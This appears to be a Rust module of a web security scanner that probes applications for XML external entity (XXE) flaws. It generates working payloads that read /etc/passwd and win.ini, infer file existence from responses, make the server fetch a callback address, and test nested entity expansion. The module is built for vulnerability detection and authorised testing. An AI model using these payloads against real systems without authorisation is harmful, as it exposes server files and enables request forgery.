//! Whether a reader of XML fetches what a document names (XXE; CWE-611, CWE-776, OWASP A05:2021).
//!
//! For each body and each value that is XML:
//! 1. Positive control: the document works as it is.
//! 2. A document type declares an entity for a file that every system has, and each text of the document uses it. Where its first
//!    line comes back, and does not for the name of a file that nothing has (the twin), it is proven.
//! 3. Where no text comes back: six documents that name files which are there and files which are not, in random order. When the
//!    answers tell them apart all six times, the reader opened them. That is proven too. The twin is among them.
//! 4. Where the probe can be reached from the target: an entity, and one of the document type's own (`%`), for an address of the
//!    probe's. Whoever asks there proves it; with a zone of the probe's (`[callback]`), so does whoever asks for the name alone. Twin:
//!    the address as a plain text of the document type; nobody must ask there.
//! 5. An entity within entities, three deep: where the answer grows with them, the reader expands what a document declares.
//!    That is tentative: it is no file, and no harm yet.
//!
//! Documents without texts are also tried in the shape of things that the application lists.

use std::fmt::Write as _;
use std::time::Duration;

use gabion_model::Severity;
use gabion_model::outbound::BoxFuture;

use super::{Attack, Phase, shuffled};
use crate::aim::{Aim, Sent, aims};
use crate::call::{Payload, Put};
use crate::catch::Catch;
use crate::compare::Profile;
use crate::field::Field;
use crate::operation::Place;
use crate::verdict::{Proof, Verdict};
use crate::wire::{Answer, WireError};

pub(super) struct Xxe;

const ID: &str = "xxe";

impl Attack for Xxe {
    fn id(&self) -> &'static str {
        ID
    }

    fn phase(&self) -> Phase {
        Phase::Write
    }

    fn run<'a>(&'a self, field: &'a Field) -> BoxFuture<'a, Result<(), WireError>> {
        Box::pin(async move {
            let aims = aims(field);
            let mut tested = 0_usize;
            for aim in aims.iter().filter(|aim| is_xml(aim)) {
                tested = tested.saturating_add(1);
                attack(aim).await?;
            }
            if tested == 0 {
                field.not_tested(ID, "no operation takes XML");
            }
            Ok(())
        })
    }
}

fn is_xml(aim: &Aim<'_>) -> bool {
    match (&aim.known.call.payload, aim.point.place) {
        (Payload::Raw { media_type, .. }, Place::Body) => media_type.contains("xml"),
        (Payload::Multipart(parts), Place::File) => parts.iter().any(|part| {
            part.name == aim.point.name && part.file.as_ref().is_some_and(|(_, kind)| kind.contains("xml"))
        }),
        (_, Place::Header | Place::Cookie | Place::Path) => false,
        _ => {
            let text = aim.original.trim_start();
            text.starts_with("<?xml") || (text.starts_with('<') && text.trim_end().ends_with('>'))
        }
    }
}

/// Files that are there, of Unix and of Windows, and what their text always has.
const FILES: &[(&str, &str)] = &[("file:///etc/passwd", "root:"), ("file:///c:/windows/win.ini", "[fonts]")];

async fn attack(aim: &Aim<'_>) -> Result<(), WireError> {
    let documents = documents(aim);
    for document in &documents {
        for (file, words) in FILES {
            if reads(aim, document, file, words).await? {
                return Ok(());
            }
        }
    }
    for document in &documents {
        if opens(aim, document).await? {
            return Ok(());
        }
    }
    if let (Some(document), Some(catch)) = (documents.first(), &aim.field.catch)
        && fetches(aim, document, catch).await?
    {
        return Ok(());
    }
    for document in &documents {
        if expands(aim, document).await? {
            return Ok(());
        }
    }
    let verdict = if aim.works { Verdict::Passed } else { Verdict::Inconclusive };
    let says = if aim.works {
        "no entity that a document declared was fetched or expanded"
    } else {
        "no document is known that it takes; hint: an example in the OpenAPI document"
    };
    aim.field.say(aim.outcome(ID, verdict, says));
    Ok(())
}

/// A document: its beginning up to where a document type may stand, the name of its root, and the rest.
#[derive(Debug, PartialEq, Eq)]
struct Document {
    head: String,
    root: String,
    rest: String,
}

impl Document {
    /// Of a text that is one; the entity stands in place of each text of it, and in the root where there is none.
    fn of(text: &str) -> Option<Self> {
        let mut head = String::new();
        let mut rest = text.trim_start();
        if rest.starts_with("<?xml") {
            let (declaration, after) = rest.split_once("?>")?;
            let _ = write!(head, "{declaration}?>");
            rest = after.trim_start();
        }
        if rest.starts_with("<!DOCTYPE") {
            // What has one already is taken without its own.
            let end = rest
                .find("]>")
                .map(|at| at.saturating_add(2))
                .or_else(|| Some(rest.find('>')?.saturating_add(1)))?;
            rest = rest.get(end..)?.trim_start();
        }
        let name = rest.strip_prefix('<')?;
        let end = name.find(|letter: char| letter.is_whitespace() || matches!(letter, '>' | '/'))?;
        let root = name.get(..end)?.to_owned();
        if root.is_empty() || !root.chars().all(|letter| letter.is_alphanumeric() || "_-.:".contains(letter))
        {
            return None;
        }
        Some(Self { head, rest: entities(rest)?, root })
    }

    /// With entities declared; the text uses `&e;`.
    fn with(&self, declarations: &str) -> String {
        let Self { head, root, rest } = self;
        format!("{head}<!DOCTYPE {root} [{declarations}]>{rest}")
    }

    fn naming(&self, place: &str) -> String {
        self.with(&format!("<!ENTITY e SYSTEM \"{place}\">"))
    }
}

/// Each text between two tags replaced by the entity.
fn entities(text: &str) -> Option<String> {
    let mut out = String::new();
    let mut rest = text;
    let mut count = 0_usize;
    while let Some((before, after)) = rest.split_once('>') {
        out.push_str(before);
        out.push('>');
        let (content, _) = after.split_once('<').unwrap_or((after, ""));
        let closes = after.get(content.len()..).is_some_and(|next| next.starts_with("</"));
        let opened = before.rfind('<').and_then(|at| before.get(at..)).unwrap_or_default();
        let leaf = closes && !opened.starts_with("</") && !opened.ends_with('/') && !opened.starts_with("<!");
        if leaf && count < MOST_TEXTS {
            out.push_str("&e;");
            count = count.saturating_add(1);
        } else {
            out.push_str(content);
        }
        rest = after.get(content.len()..)?;
    }
    out.push_str(rest);
    (count > 0).then_some(out)
}

const MOST_TEXTS: usize = 20;

/// The known document, and those in the shape of things that the application lists and this operation answers.
fn documents(aim: &Aim<'_>) -> Vec<Document> {
    let mut all: Vec<Document> = Document::of(&aim.original).into_iter().collect();
    let told = aim.field.operation(aim.known.operation).and_then(|operation| operation.answers.as_ref());
    let mut nouns: Vec<&str> = Vec::new();
    for object in &aim.field.objects {
        let shared = |names: &std::collections::BTreeSet<String>| {
            object.fields.iter().filter(|(name, value)| value.is_string() && names.contains(*name)).count()
        };
        if nouns.contains(&object.noun.as_str()) || told.is_none_or(|names| shared(names) < 2) {
            continue;
        }
        nouns.push(&object.noun);
        let names = object
            .fields
            .iter()
            .filter(|(name, value)| value.is_string() && told.is_some_and(|told| told.contains(*name)));
        let inner: String = names.map(|(name, _)| format!("<{name}>probe</{name}>")).collect();
        let noun = &object.noun;
        all.extend(Document::of(&format!(
            "<?xml version=\"1.0\"?><{noun}s><{noun}>{inner}</{noun}></{noun}s>"
        )));
    }
    all.truncate(4);
    all
}

async fn send(aim: &Aim<'_>, document: &str) -> Result<Option<Sent>, WireError> {
    aim.follow(&Put::Text(document)).await
}

/// Whether the text of a file comes back.
async fn reads(aim: &Aim<'_>, document: &Document, file: &str, words: &str) -> Result<bool, WireError> {
    let Some(attack) = send(aim, &document.naming(file)).await? else { return Ok(false) };
    if !shows_file(&attack, words) {
        return Ok(false);
    }
    let nothing = format!("{file}-{}", aim.field.canary());
    let Some(twin) = send(aim, &document.naming(&nothing)).await? else { return Ok(false) };
    let Some(again) = send(aim, &document.naming(file)).await? else { return Ok(false) };
    if shows_file(&twin, words) || !shows_file(&again, words) {
        return Ok(false);
    }
    let proof = Proof::new(aim.evidence(&attack), format!("the answer has `{words}` of `{file}`"))
        .twin(aim.evidence(&twin))
        .shown(aim.evidence(&again));
    let says = format!("the reader of XML puts `{file}` into the document");
    aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
    Ok(true)
}

fn shows_file(sent: &Sent, words: &str) -> bool {
    let has = |answer: &Answer| {
        answer.has(words)
            && (words != "root:" || answer.has(":0:0:"))
            && (words != "[fonts]" || answer.has("[extensions]"))
    };
    has(&sent.answer) || sent.next.as_ref().is_some_and(has)
}

/// Files that are there on nearly every system of a kind, and may be read by everybody.
const THERE: &[&str] = &["file:///etc/passwd", "file:///etc/hosts", "file:///etc/group"];

/// Whether the answers tell files that are there from files that are not.
async fn opens(aim: &Aim<'_>, document: &Document) -> Result<bool, WireError> {
    let there = document.naming("file:///etc/passwd");
    let Some(attack) = send(aim, &there).await? else { return Ok(false) };
    let missing = || document.naming(&format!("file:///etc/{}", aim.field.canary()));
    let Some(twin) = send(aim, &missing()).await? else { return Ok(false) };
    if attack.answer.status == twin.answer.status {
        return Ok(false);
    }
    let Some(profile) = Profile::of(&[&attack.answer]) else { return Ok(false) };
    let fits = |sent: &Sent| profile.distance(&sent.answer, "", "").is_some();
    let mut files = THERE.iter().cycle();
    for truth in shuffled(aim.field, 6) {
        let text = if truth { document.naming(files.next().copied().unwrap_or_default()) } else { missing() };
        let Some(sent) = send(aim, &text).await? else { return Ok(false) };
        if fits(&sent) != truth {
            return Ok(false);
        }
    }
    let evidence = format!(
        "an entity for a file that is there is answered with {}, one for a file that is not with {}: 6 of 6 times",
        attack.answer.status, twin.answer.status
    );
    let proof = Proof::new(aim.evidence(&attack), evidence).twin(aim.evidence(&twin));
    let says = "the reader of XML opens files that a document names";
    aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
    Ok(true)
}

/// How long somebody is waited for who asks at the probe's own address.
const SOON: Duration = Duration::from_secs(1);

/// An address, as something of a document type.
type Written = fn(&str) -> String;

/// How an address stands in a document type; the last is the twin.
const PLACES: &[Written] = &[
    |url| format!("<!ENTITY e SYSTEM \"{url}\">"),
    |url| format!("<!ENTITY % p SYSTEM \"{url}\"> %p;<!ENTITY e \"probe\">"),
    |url| format!("<!ENTITY e \"SYSTEM {url}\">"),
];

/// Whether somebody asks at an address that a document names.
async fn fetches(aim: &Aim<'_>, document: &Document, catch: &Catch) -> Result<bool, WireError> {
    let [places @ .., twin] = PLACES else { return Ok(false) };
    let mut ways: Vec<(bool, Written)> = places.iter().map(|place| (false, *place)).collect();
    if catch.names().is_some() {
        ways.extend(places.iter().map(|place| (true, *place)));
    }
    for (named, place) in ways {
        let Some((attack, Some(hit))) = asked(aim, document, catch, place, named).await? else { continue };
        let Some((twin, None)) = asked(aim, document, catch, *twin, named).await? else { continue };
        let Some((_, Some(_))) = asked(aim, document, catch, place, named).await? else { continue };
        let proof = Proof::new(aim.evidence(&attack), format!("`{hit}` came to the probe, twice"))
            .twin(aim.evidence(&twin));
        let says = "the reader of XML fetches addresses that a document names";
        aim.field.say(aim.outcome(ID, Verdict::Proven, says).proof(proof));
        return Ok(true);
    }
    Ok(false)
}

/// What was sent, and the first line of who asked at its address.
async fn asked(
    aim: &Aim<'_>,
    document: &Document,
    catch: &Catch,
    place: Written,
    named: bool,
) -> Result<Option<(Sent, Option<String>)>, WireError> {
    let word = Catch::word(&*aim.field.rng);
    let url = catch.url_by_name(&word).filter(|_| named).unwrap_or_else(|| catch.url(&word));
    let Some(sent) = send(aim, &document.with(&place(&url))).await? else { return Ok(None) };
    Ok(Some((sent, catch.met(&word, SOON).await)))
}

/// Whether entities within entities are expanded.
async fn expands(aim: &Aim<'_>, document: &Document) -> Result<bool, WireError> {
    let word = aim.field.canary();
    let declared = |times: usize| {
        let many = "&f;".repeat(times);
        document.with(&format!("<!ENTITY g \"{word}\"><!ENTITY f \"&g;&g;\"><!ENTITY e \"{many}\">"))
    };
    let count = |sent: &Sent| sent.answer.text().matches(word.as_str()).count();
    let (Some(few), Some(many)) = (send(aim, &declared(1)).await?, send(aim, &declared(8)).await?) else {
        return Ok(false);
    };
    let (one, eight) = (count(&few), count(&many));
    // Two words for each, and what an echo of the declarations would show besides.
    if one < 2 || eight < one.saturating_add(14) {
        return Ok(false);
    }
    let evidence = format!("`{word}` stands once in the document, and {eight} times in the answer");
    let proof = Proof::new(aim.evidence(&many), evidence).twin(aim.evidence(&few));
    let says = "the reader of XML expands entities within entities";
    let outcome = aim.outcome(ID, Verdict::Tentative, says).aspect("expansion").severity(Severity::Low);
    aim.field.say(outcome.proof(proof));
    Ok(true)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_text_of_a_document_becomes_the_entity() {
        let document =
            Document::of("<?xml version=\"1.0\"?>\n<a x=\"1\"><b>one</b><c/><d><e></e></d> tail</a>")
                .unwrap();
        assert_eq!(document.root, "a");
        assert_eq!(
            document.naming("file:///x"),
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///x\">]>\
             <a x=\"1\"><b>&e;</b><c/><d><e>&e;</e></d> tail</a>"
        );
        for text in ["", "<", "no xml", "<a", "<a/>", "<!DOCTYPE", "<?xml", "<é>"] {
            assert_eq!(Document::of(text), None, "{text}");
        }
        let own = Document::of("<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>").unwrap();
        assert_eq!(own.with(""), "<!DOCTYPE a []><a>&e;</a>");
    }
}
